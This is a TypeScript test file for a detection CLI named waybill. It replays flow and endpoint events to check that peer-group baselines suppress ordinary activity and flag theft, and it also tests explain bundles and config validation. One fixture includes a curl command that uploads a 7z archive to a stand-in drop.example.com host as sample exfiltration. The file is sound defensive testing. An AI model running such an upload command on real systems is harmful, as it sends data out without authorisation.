import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { asDefend } from '../build/defend-event.ts';
import { CURL, DROP, GROUPS, type Item, NEW, OUTSIDER, PEERS, upload, usual, work } from '../join/peer-world.ts';

const run = promisify(execFile);
const waybill = (...args: string[]) =>
  run(process.execPath, ['dist/enrich/cli/main.js', ...args], { maxBuffer: 64 * 2 ** 20 });

let directory: string;
const file = (name: string, text: string): string => {
  writeFileSync(join(directory, name), text);
  return join(directory, name);
};
beforeAll(() => {
  directory = mkdtempSync(join(tmpdir(), 'waybill-peers-'));
});
afterAll(() => rmSync(directory, { recursive: true, force: true }));

interface Alert {
  readonly event: { readonly id: string };
  readonly host: { readonly name: string };
}

let replays = 0;

/** Replays under a settings file, into a store of its own. */
async function replay(config: string, items: readonly Item[]) {
  const lines = (all: readonly unknown[]): string => all.map((each) => `${JSON.stringify(each)}\n`).join('');
  const events = items.flatMap((item) => ('kind' in item ? [asDefend(item)] : []));
  const flows = items.filter((item) => !('kind' in item));
  const data = join(directory, `data-${replays++}`);
  const settings = file('waybill.yaml', config);
  const { stdout } = await waybill(
    'replay',
    ...['--flows', file('flows.jsonl', lines(flows)), '--endpoint', file('defend.jsonl', lines(events))],
    ...['--config', settings, '--data', data],
  );
  const printed = stdout.split('\n').filter((line) => line !== '');
  return { alerts: printed.map((line) => JSON.parse(line) as Alert), data, settings };
}
const hostsOf = ({ alerts }: Awaited<ReturnType<typeof replay>>): string[] => alerts.map(({ host }) => host.name);

const PLAIN = 'peer_groups: []\n';
const department = PEERS.flatMap((n) => [...work(n), ...usual(n)]);
const theft = upload(NEW, {
  ...{ place: DROP, image: CURL, sent: 2_500_000 },
  process: { commandLine: 'curl -k -F "file=@C:\\Users\\Public\\d0.7z" https://drop.example.com/' },
});

describe('replay with peer_groups', () => {
  it('is quiet about the ordinary work of a new host only with its group', async () => {
    const items = [...department, ...upload(NEW)];
    expect(hostsOf(await replay(PLAIN, items))).toEqual(['WS17']);
    expect(hostsOf(await replay(GROUPS, items))).toEqual([]);
  }, 120_000);

  it('finds a theft from a new host only with its group, and explains by whom it was judged', async () => {
    const items = [...department, ...usual(OUTSIDER, 5, DROP, CURL), ...theft];
    expect(hostsOf(await replay(PLAIN, items))).toEqual([]);
    const found = await replay(GROUPS, items);
    expect(hostsOf(found)).toEqual(['WS17']);
    const said =
      /familiarity_F3: F3: this program uses it elsewhere, new to this host and user, and no work of its peers \(judged by its peer group office: 6 hosts, 28 days, maturity 0\.98\)/;
    const [id, bundle] = [found.alerts[0]!.event.id, join(directory, 'case.zip')];
    expect((await waybill('explain', id, '--data', found.data)).stdout).toMatch(said);
    // All that was asked of the peers is in the bundle: it is scored again without the store.
    await waybill('explain', id, '--data', found.data, '--config', found.settings, '--bundle', bundle);
    expect((await waybill('explain', bundle)).stdout).toMatch(said);
  }, 120_000);

  it('has its mistakes listed by check-config, all at once', async () => {
    const config = file('wrong.yaml', "peer_groups: [{ name: a, hosts: ['x?'] }, { name: b }, { hosts: [y] }]\n");
    const failed = (await waybill('check-config', config).catch((error: unknown) => error)) as {
      readonly code: number;
      readonly stderr: string;
    };
    expect(failed.code).toBe(2);
    for (const place of [
      'peer_groups.0.hosts.0: expected a host name',
      'peer_groups.1: expected hosts',
      'peer_groups.2.name',
    ])
      expect(failed.stderr).toContain(place);
    const printed = await waybill('check-config', file('right.yaml', GROUPS), '--print');
    expect(printed.stdout).toContain('name: office');
  }, 60_000);
});
